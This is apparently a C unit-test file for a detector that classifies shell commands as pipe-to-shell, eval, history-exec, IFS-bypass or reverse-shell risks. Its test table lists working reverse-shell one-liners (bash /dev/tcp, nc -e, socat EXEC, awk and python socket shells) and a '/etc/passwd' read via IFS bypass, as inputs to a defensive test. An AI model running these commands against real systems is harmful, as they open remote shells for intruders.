#include "shell/match/match_shells.c" /* its tables */

#include "shell_simple.h"

enum { NO = -1 };

#define PIPE AB_RULE_PIPE_TO_SHELL
#define EVAL AB_RULE_EVAL_EXEC
#define DYN AB_RULE_DYNAMIC_COMMAND
#define REV AB_RULE_REVERSE_SHELL
#define HIST AB_RULE_HISTORY_EXEC
#define NET AB_TAINT_NETWORK
#define DEC AB_TAINT_DECODED
#define UNKNOWN_PIPE 0x1000 /* of no taint */

static const struct {
	const char *text;
	unsigned in; /* the taint of an unknown input; 0: there is none */
	int rule;
	unsigned flags;
} cases[] = {
	/* the program comes from a pipe */
	{ "sh", NET, PIPE },
	{ "bash -s -- --yes", NET, PIPE },
	{ "/bin/bash -", NET, PIPE },
	{ "bash -x", DEC, PIPE },
	{ "zsh /dev/stdin", NET, PIPE },
	{ "python3", NET, PIPE },
	{ "python3.11 -", NET, PIPE },
	{ "perl", NET, PIPE },
	{ "node", NET, PIPE },
	{ "source /dev/stdin", NET, PIPE },
	{ "bash -o pipefail", NET, PIPE },
	{ "sh x.sh", NET, NO },
	{ "bash -c cat", NET, NO },
	{ "python3 -m json.tool", NET, NO },
	{ "python3 -c x", NET, NO },
	{ "python3 x.py", NET, NO },
	{ "node -e x", NET, NO },
	{ "perl -pe s/a/b/", NET, NO },
	{ "ruby -ne x", NET, NO },
	{ "php -r x", NET, NO },
	{ "jq .", NET, NO },
	{ "tar xz", NET, NO },
	{ "awk {print}", NET, NO },
	{ "shellcheck -", NET, NO },
	{ "bash", 0, NO },
	{ "python3", 0, NO },
	{ "sh", AB_TAINT_FILE, NO },
	{ "sh", UNKNOWN_PIPE, EVAL },
	{ "python3", UNKNOWN_PIPE, NO },
	{ "sh", AB_TAINT_HISTORY, HIST },

	/* or stands in a word */
	{ "bash -c {NET}$", 0, PIPE },
	{ "sh {NET}$", 0, PIPE },
	{ "eval {NET}$", 0, PIPE },
	{ "source {NET}$", 0, PIPE },
	{ "python3 -c {NET}$", 0, PIPE },
	{ "sh -c {DEC}rm", 0, PIPE },
	{ "eval {HIST}$", 0, HIST },
	{ "bash -c $", 0, EVAL },
	{ "eval $", 0, EVAL },
	{ "eval $ $", 0, EVAL },
	{ "trap $ EXIT", 0, EVAL },
	{ "source $", 0, EVAL },
	{ ". $", 0, EVAL },
	{ "bash -c %cd_$_&&_make", 0, NO },
	{ "sh x.sh {NET}$", 0, NO },
	{ "eval %export_$", 0, NO },
	{ "trap - EXIT", 0, NO },
	{ "source venv/bin/activate", 0, NO },
	{ "source $/activate", 0, NO },
	{ "echo {NET}$", 0, NO },
	{ "sh $", 0, NO },
	{ "python3 -c $", 0, NO },

	/* the command itself */
	{ "$ arg", 0, DYN },
	{ "./$", 0, DYN },
	{ "$$", 0, DYN },
	{ "a$", 0, DYN },
	{ "{NET}$", 0, PIPE },
	{ "$/bin/python x", 0, NO },
	{ "ls $", 0, NO },
	{ "cat {IFS}/etc/passwd", 0, AB_RULE_IFS_BYPASS },
	{ "fc -s", 0, HIST },
	{ "fc -e -", 0, HIST },
	{ "fc -l", 0, NO },
	{ "history", 0, NO },

	/* lines to a shell */
	{ "bash -i >&/dev/tcp/1.2.3.4/9 0>&1", 0, REV },
	{ "exec <>/dev/tcp/h/9", 0, REV },
	{ "sh </dev/tcp/h/9", 0, REV },
	{ "nc -e /bin/sh h 9", 0, REV },
	{ "nc h 9 -e sh", 0, REV },
	{ "ncat --exec /bin/bash h 9", 0, REV },
	{ "nc -c bash h 9", 0, REV },
	{ "ncat --sh-exec x h 9", 0, REV },
	{ "socat TCP:h:9 EXEC:sh", 0, REV },
	{ "socat exec:%bash_-li,pty tcp:h:9", 0, REV },
	{ "xterm -display 1.2.3.4:1", 0, REV },
	{ "awk BEGIN{s=\"/inet/tcp/0/h/9\";while((s|&getline_c)>0)system(c)}", 0, REV },
	{ "python3 -c %import_socket,os,pty;s=socket.socket();s.connect(('h',9));os.dup2(s.fileno(),0);pty.spawn('sh')",
	  0, REV },
	{ "python3 -c %import_socket;s=socket.socket();s.connect(('h',9))", 0, NO },
	{ "sh -i 2>&1", UNKNOWN_PIPE, REV, AB_SIMPLE_PIPED },
	{ "echo >/dev/tcp/h/22", 0, NO },
	{ "</dev/tcp/h/22", 0, NO },
	{ "cat </dev/tcp/h/13", 0, AB_RULE_FILE_TRANSFER },
	{ "cat </dev/tcp/localhost/13", 0, NO },
	{ "nc -zv h 22", 0, NO },
	{ "nc -c h 443", 0, NO },
	{ "nc -l 8080", 0, NO },
	{ "socat TCP-LISTEN:80,fork TCP:h:80", 0, NO },
	{ "socat - EXEC:sh", 0, NO },
	{ "xterm -display :0", 0, NO },
	{ "bash -ic x", 0, NO, AB_SIMPLE_PIPED },
	{ "bash -i", 0, NO },
	{ "exec >log.txt", 0, NO },
	{ "make 2>&1", 0, NO },
};

static void test_cases(void)
{
	for (size_t i = 0; i < AB_COUNT(cases); i++) {
		struct test_command c;
		struct ab_hits hits = { 0 };
		bool mild;
		int rule;

		test_parse(&c, cases[i].text);
		if (cases[i].in)
			c.simple.in = (struct ab_data){
				.text = { "\0", 1 },
				.unknown = true,
				.taint = cases[i].in & ~UNKNOWN_PIPE,
			};
		c.simple.flags = cases[i].flags;
		ab_match_shells(&c.simple, &hits);
		rule = test_strictest(&hits, &mild);
		ok(rule == cases[i].rule, "%s (input %#x)", cases[i].text, cases[i].in);
		if (rule != cases[i].rule)
			printf("# found %s\n", rule < 0 ? "nothing" : ab_rules[rule].name);
		ab_arena_fini(&c.arena);
	}
}

int main(void)
{
	test_cases();
	return done();
}
